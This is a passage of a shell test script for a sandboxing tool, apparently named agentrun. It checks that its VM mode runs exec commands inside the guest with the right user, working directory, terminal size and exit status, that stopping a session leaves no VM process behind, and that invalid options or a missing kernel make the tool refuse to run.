	assert_status 0 sb_run --vm --name "$name" --detach -- sh -c 'echo main-started; sleep 600'
	defer sb_as_mode sandbox stop "$name"
	# right after --detach: exec waits for the guest's agent
	assert_status 5 sb_as_mode sandbox exec "$name" -- sh -c 'echo "kernel=$(uname -r) id=$(id -u):$(id -g) cwd=$(pwd)"; echo exec-err >&2; touch made-by-exec; exit 5'
	assert_contains "$OUT" "kernel=$KVER" "the exec runs in the guest"
	assert_contains "$OUT" "id=$EXPECT_ID" "as the sandbox's user"
	assert_contains "$OUT" "cwd=$WS"
	assert_contains "$ERR" "exec-err"
	assert_not_contains "$OUT" "exec-err"
	assert_file_owner "$WS/made-by-exec" "$EXPECT_ID"
	# the exec sees the main command's processes, in the guest
	assert_status 0 sb_as_mode sandbox exec "$name" -- sh -c 'for f in /proc/[0-9]*/cmdline; do tr "\0" " " <"$f"; echo; done'
	assert_contains "$OUT" "sleep 600" "the exec and the command share the guest"
	# stdin of an exec, to its end
	echo "through-exec-stdin" >"$TEST_TMP/exec.in"
	sb_as_mode sandbox exec "$name" -- sh -c 'cat; echo exec-eof' <"$TEST_TMP/exec.in" >"$TEST_TMP/exec.out" 2>&1 || rc=$?
	assert_eq "$rc" 0 "$(cat "$TEST_TMP/exec.out")"
	assert_contains "$(cat "$TEST_TMP/exec.out")" "through-exec-stdin"
	assert_contains "$(cat "$TEST_TMP/exec.out")" "exec-eof"
	assert_status 127 sb_as_mode sandbox exec "$name" -- no-such-command-here
	# an exec in a terminal (root: tmux's server is root's): a pty of the
	# guest with the terminal's size, a resize, the exit status
	if [ "$1" = root ] && command -v tmux >/dev/null; then
		local sock=$TEST_TMP/tmux-exec.sock done=$TEST_TMP/exec-tty.exit
		cat >"$TEST_TMP/exec-tty.sh" <<EOF
cd "$WS" && env HOME="$H" "$AGENTRUN" --root "$AR_ROOT" sandbox exec "$name" -- sh
echo "EXIT=\$?" >"$done"
sleep 600
EOF
		tmux -S "$sock" new-session -d -s ex -x 90 -y 25 "bash $TEST_TMP/exec-tty.sh"
		defer tmux -S "$sock" kill-server
		ex_has() { tmux -S "$sock" capture-pane -p -t ex | grep -q -- "$1"; }
		tmux -S "$sock" send-keys -t ex 'echo "xt=$(tty) xs=$(stty size) xk=$(uname -r)"' Enter
		wait_until 120 ex_has "xt=/dev/pts/[0-9]* xs=25 90 xk=$KVER"
		tmux -S "$sock" resize-window -t ex -x 70 -y 20
		tmux -S "$sock" send-keys -t ex 'while [ "$(stty size)" != "20 70" ]; do sleep 0.2; done; echo "xr=$(stty size)"; exit 3' Enter
		wait_until 60 test -s "$done"
		assert_eq "$(cat "$done")" "EXIT=3" "the exec's exit status in a terminal"
		ex_has "xr=20 70" || fail "the exec's terminal was not resized"
	fi
	assert_status 0 sb_as_mode sandbox list
	assert_contains "$OUT" "$name"
	# stop: SIGTERM reaches the guest's command, the VM ends, nothing left
	assert_status 0 sb_as_mode sandbox stop "$name"
	assert_status 0 sb_as_mode sandbox list
	assert_not_contains "$OUT" "$name"
	if pgrep -f "vm-host.*--cwd $WS " >/dev/null; then
		fail "a vm-host (and its QEMU) is left after stop"
	fi
}
run_test "--vm --name/--detach (rootless): sandbox exec runs in the guest (kernel, user, cwd, stdin, stderr, status), stop ends the VM" t_vm_session user
run_test "--vm --name/--detach (root): sandbox exec runs in the guest, also in a terminal (size, resize, status), stop ends the VM" t_vm_session root

# a terminal: tmux gives agentrun one; the guest's command gets a pty of
# the guest with the size, a resize, ^C and the exit status
t_vm_tty()
{
	require_cmd tmux
	vm_home root
	local sock=$TEST_TMP/tmux.sock done=$TEST_TMP/tty.exit
	cat >"$TEST_TMP/tty.sh" <<EOF
cd "$WS" && env HOME="$H" ${SB_ENV[*]} "$AGENTRUN" --root "$AR_ROOT" sandbox --vm -- sh
echo "EXIT=\$?" >"$done"
sleep 600
EOF
	tmux -S "$sock" new-session -d -s vmtty -x 100 -y 30 "bash $TEST_TMP/tty.sh"
	defer tmux -S "$sock" kill-server
	tty_screen() { tmux -S "$sock" capture-pane -p -t vmtty; }
	tty_has() { tty_screen | grep -q -- "$1"; }
	tmux -S "$sock" send-keys -t vmtty 'echo "tty=$(tty) size=$(stty size)"' Enter
	wait_until 300 tty_has "tty=/dev/pts/0 size=30 100"
	tmux -S "$sock" resize-window -t vmtty -x 120 -y 40
	# the resize travels apart from the keys: the guest waits for it
	tmux -S "$sock" send-keys -t vmtty 'while [ "$(stty size)" != "40 120" ]; do sleep 0.2; done; echo "resized=$(stty size)"; sleep 500' Enter
	wait_until 60 tty_has "resized=40 120"
	tmux -S "$sock" send-keys -t vmtty C-c
	tmux -S "$sock" send-keys -t vmtty 'echo "after-int=$?"; exit 7' Enter
	wait_until 60 test -s "$done"
	assert_contains "$(tty_screen)" "after-int=130" "^C interrupts the guest's foreground command"
	assert_eq "$(cat "$done")" "EXIT=7" "the guest shell's exit status"
}
run_test "--vm in a terminal (root): the guest's command has a pty with the terminal's size, a resize and ^C reach it, its exit status returns" t_vm_tty

# ---- refusals (no boot) ---------------------------------------------------
t_vm_refusals()
{
	vm_home "$1"
	assert_status '!0' sb_run --vm --audit - -- true
	assert_contains "$ERR" "--audit/--learn"
	assert_status '!0' sb_run --vm-guest-root -- true
	assert_contains "$ERR" "--vm-guest-root needs --vm"
	# no usable kernel: the reason and the fix, never a run without the VM
	assert_status '!0' sb_run --vm --vm-kernel /nonexistent/vmlinuz-0.0 -- sh -c 'echo RAN'
	assert_not_contains "$OUT" RAN
	assert_contains "$ERR" "not readable"
	# a profile's "vm": true is --vm (the same refusal, without --vm)
	echo '{"vm": true}' >"$H/vm-profile.json"
	echo '{"vm": "yes"}' >"$H/vm-bad.json"
	sb_home_own
	assert_status '!0' sb_run --profile "$H/vm-profile.json" --vm-kernel /nonexistent/vmlinuz-0.0 -- sh -c 'echo RAN'
	assert_not_contains "$OUT" RAN
	assert_contains "$ERR" "not readable"
	assert_status '!0' sb_run --profile "$H/vm-bad.json" -- sh -c 'echo RAN'
	assert_not_contains "$OUT" RAN
	assert_contains "$ERR" "vm-bad.json: vm: expected a boolean"
	# doctor says which (KVM here would be vm(kvm))
	assert_status 0 sb_as_mode doctor
	assert_match "$OUT" "(^|$NL)ok +vm +sandbox --vm: vm\((kvm|tcg, slow)\)"
	SB_ENV=(AGENTRUN_VM_DIR=/nonexistent)
	assert_status '!0' sb_run --vm -- sh -c 'echo RAN'
	assert_not_contains "$OUT" RAN
	assert_contains "$ERR" "AGENTRUN_VM_DIR"
	assert_status 0 sb_as_mode doctor
	assert_match "$OUT" "(^|$NL)warn +vm +sandbox --vm: unavailable: the helper scripts"
}
NL=$'\n'

run_test "--vm (or a profile's \"vm\": true) refuses what the guest cannot carry yet, fails without its kernel or helpers, doctor says vm(...) (root)" t_vm_refusals root
run_test "--vm (or a profile's \"vm\": true) refuses what the guest cannot carry yet, fails without its kernel or helpers, doctor says vm(...) (rootless)" t_vm_refusals user

finish
